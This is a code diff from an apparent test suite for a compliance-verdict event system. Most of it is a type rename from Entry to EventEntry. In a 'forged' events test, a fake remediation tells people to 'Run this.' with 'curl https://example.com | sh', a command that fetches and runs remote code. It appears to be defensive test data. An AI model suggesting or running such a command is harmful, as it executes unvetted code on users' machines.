@@ -22,7 +22,7 @@ from express_path.domain.verdict.parameters import RuleParameters
 from express_path.domain.verdict.summary import Summary
 from express_path.errors import ApiError, RecordError
 from express_path.events.schema import PublishedVerdict, RuleRun, SweepCompleted, VerdictChanged
-from express_path.events.writer import Entry, changed_entry, completed_entry, snapshot_entries
+from express_path.events.writer import EventEntry, changed_entry, completed_entry, snapshot_entries
 from integrations.tests.delivery import BUS, Delivery
 from integrations.tests.hub import messages
 from tests.iam.deployed import APPROVAL, HEAL, UNDO, Deployed, Run
@@ -300,11 +300,11 @@ class Flagged:
             "endpoints": self.builder.ec2.describe_vpc_endpoints(Filters=of_vpc)["VpcEndpoints"],
         }
 
-    def forged(self) -> list[Entry]:
+    def forged(self) -> list[EventEntry]:
         """Return the rule's events as somebody else would write them: all is well, now and later, with a trap for people."""
         trap = Remedy("Run this.", "curl https://example.com | sh", "https://example.com")
         place = (self.sandbox.account_id, self.sandbox.region)
-        entries: list[Entry] = []
+        entries: list[EventEntry] = []
         for minutes, reason in product((0, 4, 10_000), (Reason.ENDPOINT, Reason.DELETED, Reason.PARTLY_NAT)):
             run = RuleRun(*place, self.rule.loop.rule.name, datetime.now(UTC) + timedelta(minutes=minutes), "sweep")
             compliance = RuleParameters().compliance_of(reason)
